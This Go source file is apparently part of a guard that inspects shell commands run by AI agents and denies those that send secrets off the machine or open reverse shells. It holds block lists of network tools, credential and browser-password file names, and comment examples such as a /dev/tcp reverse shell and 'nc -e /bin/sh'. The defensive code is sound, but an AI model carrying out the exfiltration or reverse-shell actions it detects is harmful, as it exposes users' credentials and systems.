package policy

import (
	"path"
	"strings"

	"github.com/agenthooks/agenthooks/guard/shell"
	"github.com/agenthooks/agenthooks/guard/winshell"
)

// RuleExfiltration denies a command that reads credentials or secrets and sends data off the
// machine: the two in one command line (a pipeline, a list, a substitution) are enough, since a
// guard cannot follow the bytes between them.
const RuleExfiltration = "secrets-off-machine"

// senders are programs that send data to another machine.
var senders = words{
	"aws", "az", "azcopy", "croc", "curl", "dig", "drill", "ftp", "gcloud", "gh", "git", "glab", "gsutil", "host",
	"hping3", "http", "httpie", "https", "lftp", "magic-wormhole", "mail", "mc", "mutt", "nc", "ncat", "netcat",
	"nping", "nslookup", "openssl", "ping", "rclone", "rsync", "s3cmd", "scp", "sendmail", "sftp", "socat", "ssh",
	"swaks", "telnet", "tftp", "transfer", "wget", "wormhole", "xh",
}

// listers show files' names, sizes and modes, not what is in them.
var listers = words{
	"[", "basename", "chmod", "chown", "dirname", "du", "exa", "eza", "fd", "file", "find", "ls", "lsd", "mkdir",
	"readlink", "realpath", "ssh-add", "ssh-keygen", "stat", "test", "touch", "tree", "wc",
}

// secretFiles are the names of files that hold a project's or a tool's secrets, wherever they
// are: .env and its variants (not the examples), private keys, keystores, credential files.
func isSecretFile(p string) bool {
	base := path.Base(p)
	switch {
	case base == ".env" || strings.HasPrefix(base, ".env.") && !strings.Contains(base, "example") &&
		!strings.Contains(base, "sample") && !strings.Contains(base, "template") && !strings.HasSuffix(base, ".dist"):
		return true
	case strings.HasSuffix(base, ".pem") || strings.HasSuffix(base, ".key") || strings.HasSuffix(base, ".p12") ||
		strings.HasSuffix(base, ".pfx") || strings.HasSuffix(base, ".keystore") || strings.HasSuffix(base, ".jks"):
		return true
	case base == "credentials" || base == "credentials.json" || base == "secrets.yaml" || base == "secrets.yml" ||
		base == "service-account.json" || base == ".htpasswd" || base == "id_rsa" || base == "id_ed25519" || base == "id_ecdsa":
		return true
	}
	return browserSecret(p)
}

// browserSecret reports whether p is a browser profile's store of cookies, saved passwords or
// the key that opens them (Chrome and its kin, Firefox, Safari).
func browserSecret(p string) bool {
	switch path.Base(p) {
	case "Cookies", "Login Data", "Login Data For Account", "Web Data", "Local State",
		"cookies.sqlite", "logins.json", "key4.db", "key3.db", "Cookies.binarycookies":
	default:
		return false
	}
	l := strings.ToLower(p)
	for _, b := range [...]string{"chrom", "brave", "edge", "vivaldi", "opera", "firefox", "mozilla", "safari", "librewolf", "arc/"} {
		if strings.Contains(l, b) {
			return true
		}
	}
	return false
}

// exfiltration finds a command line that both reads a secret and sends data away.
func (pr *protector) exfiltration(s *shell.Script) (Match, bool) {
	// what leaves the machine as text (a token variable, a command's output) and what the
	// line sends or unpacks as a whole (the repository, an archive over home)
	if m, ok := pr.secretValueSent(s); ok {
		return m, true
	}
	if m, ok := pr.repositorySent(s); ok {
		return m, true
	}
	if m, ok := pr.downloadUnpacked(s); ok {
		return m, true
	}
	var secret, sender string
	var pos shell.Pos
	// The first sender, then the first secret read: nothing leaves without a sender, so the
	// arguments of a command line that sends nothing are not each compared with every credential.
	for i := range s.Invocations {
		if inv := &s.Invocations[i]; isSender(inv) && !secretStore(inv) { // a secret store of the project's is where secrets go
			sender, pos = strings.Join(argv(inv, pr.ctx.Home), " "), inv.Pos
			break
		}
	}
	for i := 0; sender != "" && secret == "" && i < len(s.Invocations); i++ {
		secret = pr.secretRead(&s.Invocations[i])
	}
	if secret == "" || sender == "" {
		return Match{}, false
	}
	return Match{Rule: RuleExfiltration, Decision: Deny, Pos: pos, Subject: sender,
		Message: "reads " + secret + " and sends data off the machine"}, true
}

// isSender reports whether an invocation sends data to another machine.
func isSender(inv *shell.Invocation) bool {
	for _, r := range inv.Redirects {
		if strings.HasPrefix(r.Target.Value, "/dev/tcp/") || strings.HasPrefix(r.Target.Value, "/dev/udp/") {
			return true
		}
	}
	if name := strings.ToLower(inv.Name); name == "invoke-webrequest" || name == "invoke-restmethod" || name == "iwr" || name == "irm" {
		return true
	}
	if !senders.has(inv.Name) {
		return len(inv.Code) > 0 && codeSends(inv.Code)
	}
	switch inv.Name {
	case "git":
		return gitVerb(inv.Args[1:]) == "push"
	case "gh", "glab":
		// what sends content to the forge: publishing it, or a secret or variable set there
		// (gh release list, gh gist view, gh secret list only read)
		return publishes(inv) || variableStore(inv) || forgeCommand(inv, "secret", "set") // the project's store or another's (secretStore)
	case "aws", "gcloud", "gsutil":
		if sends, known := cloudCopySends(inv); known {
			return sends
		}
		for _, w := range inv.Args[1:] {
			if v := w.Value; v == "cp" || v == "sync" || v == "mv" || v == "put-object" || v == "upload" {
				return true
			}
		}
		return false
	case "az":
		for _, w := range inv.Args[1:] {
			if v := w.Value; v == "cp" || v == "sync" || v == "mv" || v == "put-object" || v == "upload" {
				return true
			}
		}
		return false
	case "openssl":
		return len(inv.Args) > 1 && inv.Args[1].Value == "s_client"
	case "rsync", "scp":
		return copySends(inv.Args, 1, hostRemote, scpValueOption)
	case "sftp":
		for _, w := range inv.Args[1:] {
			if strings.Contains(w.Value, ":") && !strings.HasPrefix(w.Value, "-") && !strings.HasPrefix(w.Value, "/") {
				return true
			}
		}
		return false
	}
	return true
}

// codeSends reports whether interpreter code opens a connection or makes a request.
func codeSends(code []string) bool {
	for _, c := range code {
		if containsWord(c, []string{"urlopen", "requests.", "http.client", "httpx", "socket.", "fetch(", "http.request",
			"https.request", "axios", "net.connect", "Net::HTTP", "IO::Socket", "LWP::", "curl_exec", "fsockopen", "smtplib"}) {
			return true
		}
	}
	return false
}

// secretRead names a secret an invocation reads, or "": a credential or secret file as an
// operand (curl -d @.env, scp KEY host:, tar c ~/.ssh), as stdin (nc host < KEY), in
// interpreter code, or the whole environment (env, printenv with nothing to run).
func (pr *protector) secretRead(inv *shell.Invocation) string {
	if len(inv.Args) == 0 {
		return ""
	}
	if (inv.Name == "env" || inv.Name == "printenv" || inv.Name == "export" || inv.Name == "set") && len(inv.Args) == 1 {
		return "the environment"
	}
	if listers.has(inv.Name) {
		return "" // names and sizes, not what is inside
	}
	skipNext := false
	for i, w := range inv.Args {
		if i == 0 {
			continue
		}
		if skipNext {
			skipNext = false
			continue
		}
		v := w.Value
		if v == "-i" || v == "--identity" || v == "-identity" || v == "-F" && (inv.Name == "ssh" || inv.Name == "scp") {
			skipNext = true // the key ssh signs with, not data it sends
			continue
		}
		if _, after, ok := strings.Cut(v, "@"); ok && !strings.Contains(v, "://") {
			v = after // curl -d @file, -F f=@file
		}
		if strings.HasPrefix(v, "-") && strings.Contains(v, "=") {
			_, v, _ = strings.Cut(v, "=") // --post-file=FILE
		}
		if s := pr.secretPath(v, inv.Cwd); s != "" {
			return s
		}
	}
	for _, r := range inv.Redirects {
		if r.Op == "<" || r.Op == "<>" {
			if s := pr.secretPath(r.Target.Value, inv.Cwd); s != "" {
				return s
			}
		}
	}
	for _, c := range inv.Code {
		prot := pr.list()
		for i := range prot {
			p := &prot[i]
			if p.Kind == KindCredentials && strings.Contains(c, strings.TrimSuffix(path.Base(p.Path), "*")) && strings.Contains(c, path.Base(path.Dir(p.Path))) {
				return p.What
			}
		}
		if strings.Contains(c, ".env") {
			return "a .env file"
		}
	}
	return ""
}

// secretPath names the secret a path is, or "".
func (pr *protector) secretPath(v, cwd string) string {
	if v == "" || strings.HasPrefix(v, "-") {
		return ""
	}
	v = winshell.PosixHome(v, pr.ctx.Home) // $env:USERPROFILE\.aws\credentials from PowerShell
	abs, ok := absolute(v, cwd)
	if !ok {
		abs = v
	}
	prot := pr.list()
	for i := range prot {
		p := &prot[i]
		if p.Kind != KindCredentials {
			continue
		}
		// the secret itself, what is inside it, or a folder that holds it (tar c ~/.ssh), but
		// not a folder that holds everything (rsync ~/ host:)
		if (pr.relates(opDelete, abs, false, p) || pr.relates(opWrite, abs, false, p)) && !pr.broad(abs) {
			return p.What
		}
	}
	if isSecretFile(abs) || pr.homeTokenFile(abs) {
		return path.Base(abs)
	}
	return ""
}

// homeTokenFile reports whether p is a tool's own dotfile of tokens and passwords in the home
// folder (~/.npmrc, ~/.pypirc, ~/.netrc, ~/.git-credentials, ~/.pgpass); a project's .npmrc
// names its registries and is committed with it.
func (pr *protector) homeTokenFile(p string) bool {
	if pr.ctx.Home == "" || path.Dir(p) != path.Clean(pr.ctx.Home) {
		return false
	}
	switch path.Base(p) {
	case ".npmrc", ".pypirc", ".netrc", "_netrc", ".git-credentials", ".pgpass", ".my.cnf":
		return true
	}
	return false
}

// RuleReverseShell denies a shell connected to another machine: bash -i >& /dev/tcp/HOST/PORT,
// nc -e /bin/sh HOST PORT, socat exec:.
const RuleReverseShell = "reverse-shell"

// reverseShell reports an invocation that hands a shell to the network.
func reverseShell(inv *shell.Invocation) bool {
	switch inv.Name {
	case "bash", "sh", "zsh", "dash", "ksh", "fish", "python", "python3", "perl":
		for _, r := range inv.Redirects {
			if strings.HasPrefix(r.Target.Value, "/dev/tcp/") || strings.HasPrefix(r.Target.Value, "/dev/udp/") {
				return true
			}
		}
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
		for i, w := range inv.Args {
			if (w.Value == "-e" || w.Value == "-c" || w.Value == "--exec" || w.Value == "--sh-exec") && i+1 < len(inv.Args) {
				return true
			}
		}
	case "socat":
		for _, w := range inv.Args[1:] {
			if v := strings.ToLower(w.Value); strings.HasPrefix(v, "exec:") || strings.HasPrefix(v, "system:") {
				return true
			}
		}
	}
	return false
}
